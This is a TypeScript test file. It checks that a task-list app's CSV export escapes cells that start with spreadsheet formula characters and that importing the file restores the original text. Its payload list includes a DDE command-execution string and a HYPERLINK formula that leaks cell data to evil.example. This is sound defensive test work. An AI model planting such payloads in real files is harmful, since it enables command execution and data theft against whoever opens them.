import { aPerson, type PluginInstance } from '../../../../apps/runtime/test/support/plugins/plugin-instance';
import { parse } from 'csv-parse/sync';
import { startTasks } from './support/start-tasks';

/** Somebody writes a formula into a shared list. Who exports the list opens the file in a spreadsheet, which runs it. */
describe('a formula in a task', () => {
  let tasks: PluginInstance;
  beforeAll(async () => {
    tasks = await startTasks();
  });
  afterAll(() => tasks.close());

  const FORMULAS = [
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '+1+cmd()',
    '-2+3',
    '@SUM(1+9)',
    `'=1+1`,
    '; =1+1',
    '"=1+1',
    `x;=cmd|' /C calc'!A0;y`,
    `x;'=1+1;''@SUM(1+9)`,
    'x; =1+1',
    'x;"=1+1"',
    `it's; 'quoted'; and ends`,
  ];
  /** What only notes may have. */
  const LINES = [
    'x\n=1+1\n- one',
    `x\n'=1+1\n''-2`,
    'x\t=1+1',
    `x\t'+1`,
    ';\t=1+1;\n@SUM(1+9)',
    `it's\n'quoted'\tand;ends`,
  ];

  /** As a spreadsheet does whose language separates by these: a quotation mark is one at the beginning of a cell only. */
  const LINE_ENDS = ['\r\n', '\n', '\r'];
  const RELAXED = { bom: true, record_delimiter: LINE_ENDS, relax_quotes: true, relax_column_count: true } as const;
  const cellsBetween = (delimiter: string, text: string): string[] =>
    (parse(text, { ...RELAXED, delimiter }) as string[][]).flat();

  it('begins no cell of the table, and is there again when the table comes back', async () => {
    const ada = tasks.as(aPerson());
    const { body: list } = await ada.post('/tasks/api/lists').send({ name: '=1+1' }).expect(201);
    const at = `/tasks/api/lists/${list.id}`;
    for (const notes of LINES) await ada.post(`${at}/items`).send({ title: 'x', notes }).expect(201);
    for (const title of FORMULAS) await ada.post(`${at}/items`).send({ title, notes: title }).expect(201);
    const { text } = await ada.get(`${at}/export?format=csv`).buffer().expect(200);
    const cells = (parse(text, { bom: true }) as string[][]).flat();
    expect(cells.filter(cell => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const delimiter of [';', '\t'])
      expect(cellsBetween(delimiter, text).filter(cell => /^[\s"]*[=+\-@]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example?"&A1,"Click")`);

    const { body } = await ada.post('/tasks/api/import').send({ fileName: 'back.csv', text }).expect(201);
    const back = (await ada.get(`/tasks/api/lists/${body.listId}/items?limit=50`).expect(200)).body.items;
    const texts = back.map(({ title, notes }: { title: string; notes: string }) => [title, notes]);
    expect(texts).toEqual([...LINES.map(notes => ['x', notes]), ...FORMULAS.map(formula => [formula, formula])]);
  });
});
